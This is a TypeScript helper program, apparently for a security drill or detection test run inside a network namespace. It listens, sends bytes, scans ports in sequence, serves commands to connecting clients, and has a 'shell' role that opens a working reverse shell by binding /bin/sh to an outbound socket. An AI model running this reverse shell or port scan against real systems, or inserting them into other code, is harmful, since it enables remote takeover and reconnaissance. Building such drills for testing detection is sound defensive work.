// A program of a drill, so that the kernel sees a real process. Started inside of a network
// namespace of the drill:
//   node peer.ts listen ADDRESS [PORT]             prints its port; takes one connection
//   node peer.ts connect FROM ADDRESS PORT BYTES
//   node peer.ts scan FROM ADDRESS PORTS           tries the ports from 1 on, one after the other
//   node peer.ts command ADDRESS COMMAND...        prints its port; types the commands to who comes
//   node peer.ts shell FROM ADDRESS PORT           a shell that is led by who listens there
import { spawn } from 'node:child_process'
import { once } from 'node:events'
import { connect, createServer } from 'node:net'
import type { Socket } from 'node:net'

/** Ends by itself, also when the drill was killed. */
const LIFE_MS = 20_000

function listen(host: string, port: number, serve: (socket: Socket) => void): void {
  const server = createServer({ allowHalfOpen: true }, (socket) => {
    server.close()
    socket.on('error', () => undefined)
    serve(socket)
  })
  server.listen(port, host, () => {
    const address = server.address()
    process.stdout.write(`${typeof address === 'object' ? address?.port : ''}\n`)
  })
}

function count(socket: Socket): void {
  let bytes = 0
  socket.on('data', (data) => { bytes += data.length })
  socket.on('end', () => socket.end(`${bytes} bytes received\n`))
}

function command(socket: Socket, commands: string[]): void {
  socket.resume()
  socket.write(commands.map((one) => `${one}\n`).join(''))
  socket.on('end', () => socket.end())
}

function failed(error: Error): void {
  process.stderr.write(`${error.message}\n`)
  process.exitCode = 1
}

function send(localAddress: string, host: string, port: number, bytes: number): void {
  const socket = connect({ host, port, localAddress })
  socket.resume()
  socket.once('connect', () => socket.end(Buffer.alloc(bytes, 'drill ')))
  socket.once('error', failed)
}

async function scan(localAddress: string, host: string, ports: number): Promise<void> {
  for (let port = 1; port <= ports; port++) {
    const socket = connect({ host, port, localAddress })
    await Promise.race([once(socket, 'connect'), once(socket, 'close')]).catch(() => undefined)
    socket.destroy()
  }
}

function shell(localAddress: string, host: string, port: number): void {
  const socket = connect({ host, port, localAddress })
  socket.once('error', failed)
  socket.once('connect', () => {
    const child = spawn('/bin/sh', [], { stdio: [socket, socket, socket] })
    child.once('error', failed)
    child.once('spawn', () => process.stdout.write(`${child.pid}\n`))
    child.once('exit', () => socket.destroy())
  })
}

if (import.meta.main) {
  const [role, address, ...words] = process.argv.slice(2)
  setTimeout(() => process.exit(1), LIFE_MS).unref()
  if (role === 'listen') listen(address, Number(words[0] ?? 0), count)
  else if (role === 'command') listen(address, 0, (socket) => command(socket, words))
  else if (role === 'scan') await scan(address, words[0], Number(words[1]))
  else if (role === 'shell') shell(address, words[0], Number(words[1]))
  else send(address, words[0], Number(words[1]), Number(words[2]))
}
